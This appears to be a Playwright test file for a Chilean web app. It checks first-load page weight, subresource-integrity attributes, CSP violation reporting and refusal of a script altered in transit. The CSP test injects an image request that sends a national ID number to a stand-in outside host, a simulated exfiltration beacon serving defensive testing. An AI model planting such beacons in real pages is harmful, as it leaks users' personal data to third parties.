import { gzipSync } from 'node:zlib';
import type { Browser } from '@playwright/test';
import { expect, test } from './casa.ts';
import { guionesDe } from './guiones.ts';
import { aFondo, enlaceDe } from './paginas.ts';
import { PUBLICAS } from './direcciones.ts';

interface Carga {
  /** Compressed JavaScript. */
  readonly kib: number;
  /** Requests of any kind. */
  readonly peticiones: number;
}

const KIB = 1_024;
/** Limit of a page's first visit, until it makes no more requests. */
const LIMITE: Carga = { kib: 170, peticiones: 30 };
/** Pages checked besides the public link; test:largo checks every public page. */
const LAS_MAS_ABIERTAS = ['/', '/acceso/iniciarSesion', '/verificar/1A2B3C4D', '/venta/retorno'];

const primeraCarga = async (browser: Browser, direccion: string): Promise<Carga> => {
  const contexto = await browser.newContext({ locale: 'es-CL' });
  const pagina = await contexto.newPage();
  let peticiones = 0;
  pagina.on('request', () => {
    peticiones += 1;
  });
  const guiones = guionesDe(pagina);
  await pagina.goto(direccion, { waitUntil: 'networkidle' });
  await expect(pagina.getByRole('heading', { level: 1 })).toBeVisible();
  const bytes = (await guiones()).reduce((suma, guion) => suma + gzipSync(guion).length, 0);
  await contexto.close();
  return { kib: Math.ceil(bytes / KIB), peticiones };
};

test('[V-PESO-003] the first load of a public page is light', async ({ casa, browser }) => {
  const enlace = new URL(enlaceDe(casa)).pathname;
  const pasadas: string[] = [];
  for (const ruta of [...(aFondo() ? PUBLICAS : LAS_MAS_ABIERTAS), enlace]) {
    const { kib, peticiones } = await primeraCarga(browser, `${casa.url}${ruta}`);
    expect(kib, ruta).toBeGreaterThan(1);
    const medida = `${ruta}: ${kib} KiB, ${peticiones} peticiones`;
    if (kib > LIMITE.kib || peticiones > LIMITE.peticiones) pasadas.push(medida);
  }
  expect(pasadas).toEqual([]);
});

test('[A-CSP-001] [A-CSP-003] a browser runs no script that was changed in transit, and reports CSP violations', async ({
  casa,
  browser,
}) => {
  const contexto = await browser.newContext({ locale: 'es-CL' });
  const pagina = await contexto.newPage();
  await pagina.goto(`${casa.url}/consulta`);
  await expect(pagina.getByRole('heading', { level: 1 })).toBeVisible();
  const html = await (await contexto.request.get(casa.url)).text();
  const cargadas = html.match(/<(?:script|link)[^>]*\/assets\/[^"]+\.(?:js|css)"[^>]*>/g) ?? [];
  expect(cargadas.length).toBeGreaterThan(2);
  expect(cargadas.filter((etiqueta) => !etiqueta.includes(' integrity="sha384-'))).toEqual([]);

  const informe = pagina.waitForRequest((pedido) => new URL(pedido.url()).pathname === '/csp');
  await pagina.evaluate(() => {
    const imagen = new Image();
    imagen.src = 'https://afuera.example/x.png?rut=9876543-3';
    document.body.append(imagen);
  });
  const respuesta = await (await informe).response();
  expect(respuesta?.status()).toBe(204);

  await contexto.route(/\/assets\/index-[^/]+\.js$/, async (ruta) => {
    const entero = await ruta.fetch();
    await ruta.fulfill({ response: entero, body: `${await entero.text()}\n` });
  });
  const negado = pagina.waitForEvent('console', (dicho) => /integrity/i.test(dicho.text()));
  await pagina.goto(`${casa.url}/consulta`, { waitUntil: 'load' });
  await negado;
  await expect(pagina.locator('#raiz > :not(.por-partir)')).toHaveCount(0);
  await expect(pagina.getByRole('link', { name: 'vuelva a cargarla' })).toBeVisible();
  await contexto.close();
});
